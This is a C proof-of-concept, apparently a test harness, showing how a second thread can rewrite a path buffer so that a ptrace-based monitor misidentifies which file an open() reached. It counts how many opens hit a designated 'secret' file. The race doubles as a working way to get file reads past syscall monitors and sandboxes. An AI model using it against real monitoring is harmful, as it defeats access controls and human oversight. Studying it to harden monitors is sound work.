/* The path race every ptrace monitor faces: a second thread rewrites the path buffer between the
 * monitor's read of it and the kernel's. Thread B flips the buffer between argv[1] (the secret)
 * and argv[2] (a harmless file) as fast as it can; thread A opens the buffer N times and counts
 * how many opens reached the secret (by device and inode). Prints that count. A monitor that
 * labels fds from what it read labels a share of the secret's opens as the harmless file. */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char buf[256];
static const char *a, *b;
static volatile int stop;

static void *flip(void *arg) {
    (void)arg;
    size_t la = strlen(a) + 1, lb = strlen(b) + 1;
    while (!stop) {
        memcpy(buf, a, la);
        memcpy(buf, b, lb);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: race_open SECRET HARMLESS N\n");
        return 2;
    }
    a = argv[1];
    b = argv[2];
    int n = atoi(argv[3]);
    struct stat secret;
    if (stat(a, &secret) != 0) {
        perror(a);
        return 1;
    }
    strcpy(buf, b);
    pthread_t t;
    pthread_create(&t, NULL, flip, NULL);
    int hits = 0;
    for (int i = 0; i < n; i++) {
        int fd = open(buf, O_RDONLY);
        if (fd < 0) continue;
        struct stat st;
        if (fstat(fd, &st) == 0 && st.st_dev == secret.st_dev && st.st_ino == secret.st_ino) hits++;
        close(fd);
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("%d\n", hits);
    return 0;
}
